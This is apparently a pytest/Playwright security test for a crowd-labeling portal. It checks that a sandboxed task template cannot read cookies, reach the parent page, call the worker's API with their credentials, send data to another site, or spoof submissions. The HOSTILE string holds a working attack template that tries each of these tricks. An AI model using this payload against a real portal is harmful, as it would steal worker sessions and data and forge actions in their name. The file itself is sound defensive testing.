"""A template that wants more than its task gets nothing."""

import json
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.portal.pages_support import Labeler, Site

HOSTILE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><crowd-text-area name="note" label="Note"></crowd-text-area></crowd-form>
<img src="%(foreign)s/picture.png">
<link rel="stylesheet" href="%(foreign)s/style.css">
<script src="%(foreign)s/script.js"></script>
<iframe src="%(foreign)s/frame"></iframe>
<form id="out" action="%(foreign)s/form" method="post"><input name="a"></form>
<script>
const tries = {
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  parentDocument: () => parent.document.title,
  topDocument: () => top.document.cookie,
  parentStorage: () => parent.localStorage.length,
  topNavigation: () => { top.location.href = "%(foreign)s/top"; return "left"; },
  popup: () => String(open("%(foreign)s/popup")),
  workerApi: () => fetch("%(portal)s/api/me", { credentials: "include" }).then((r) => r.text()),
  workerApiChange: () => fetch("%(portal)s/api/jobs/%(job)s/tasks", {
    method: "POST", credentials: "include", body: "{}",
    headers: { "content-type": "application/json", "x-groundwork-request": "1" },
  }).then((r) => r.text()),
  foreign: () => fetch("%(foreign)s/fetch").then((r) => r.text()),
  beacon: () => navigator.sendBeacon("%(foreign)s/beacon", "x"),
  worker: () => new Promise((yes, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"])));
    worker.onmessage = (said) => yes(said.data);
    worker.onerror = () => no(new Error("refused"));
  }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("%(foreign)s/socket".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error("refused"));
  }),
  evaluated: () => eval("1 + 1"),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { results[name] = "got " + await attempt(); } catch (error) { results[name] = "refused"; }
  }
  document.getElementById("out").submit();
  // Not of the agreed kinds, or pretending to be the worker.
  parent.postMessage({ type: "submit" }, "*");
  parent.postMessage({ type: "draft", draft: "x" }, "*");
  parent.postMessage("noise", "*");
  console.log(JSON.stringify({ results }));
  setTimeout(() => { location.href = "%(foreign)s/self"; }, 300);
})();
</script>
"""


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base's own name
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def results_at(page: Page, address: str) -> dict[str, str]:
    """Go somewhere, and wait for what the template says that it got."""
    with page.expect_console_message(
        lambda said: said.text.startswith('{"results":'), timeout=15_000
    ) as said:
        page.goto(address, wait_until="commit")
    results: dict[str, str] = json.loads(said.value.text)["results"]
    return results


def test_a_hostile_template_reaches_nothing(
    site: Site, labeler: Callable[[str], Labeler], foreign: tuple[str, list[str]]
) -> None:
    address, asked = foreign
    other = site.job(1)
    job = site.job(1, HOSTILE % {"foreign": address, "portal": site.url, "job": other})
    ann = labeler("")
    results = results_at(ann.page, f"{site.url}/jobs/{job}")
    got = {name: told for name, told in results.items() if told != "refused"}
    # The calls "work": there is no window, and the browser drops the beacon.
    assert {name: told for name, told in got.items() if name not in {"popup", "beacon"}} == {}
    assert got.get("popup", "got null") == "got null"
    ann.page.wait_for_timeout(2_500)
    assert asked == []
    assert [task for task in site.tasks(other) if task.leases] == []
    # Still at the task, which nobody submitted.
    expect(ann.page).to_have_url(f"{site.url}/jobs/{job}")
    assert site.answers(job) == {}
    assert ann.page.evaluate("document.cookie") == ""
    # That it was refused is what the console says.
    ann.problems.clear()


def test_a_frame_opened_by_itself_is_as_powerless(
    site: Site, labeler: Callable[[str], Labeler], foreign: tuple[str, list[str]]
) -> None:
    address, asked = foreign
    template = HOSTILE % {"foreign": address, "portal": site.url, "job": "x"}
    # A page of its own may leave for wherever it likes.
    job = site.job(1, template.replace("top.location.href", "top.nothing"))
    ann = labeler("")
    held = ann.page.evaluate(
        """async (job) => (await fetch(`/api/jobs/${job}/tasks`, { method: "POST", body: "{}",
          headers: { "content-type": "application/json", "x-groundwork-request": "1" },
        })).json()""",
        job,
    )
    results = results_at(ann.page, f"{site.url}/tasks/{held['lease']}/frame")
    for name in ("cookies", "storage", "workerApi", "workerApiChange", "foreign", "worker"):
        assert results[name] == "refused", name
    assert [path for path in asked if path not in {"/self", "/favicon.ico"}] == []
    ann.problems.clear()


def test_other_pages_cannot_be_framed(site: Site, labeler: Callable[[str], Labeler]) -> None:
    ann = labeler("")
    for path in ("/", "/jobs", "/signed-out", "/api/me"):
        headers = ann.page.request.get(site.url + path).headers
        assert headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
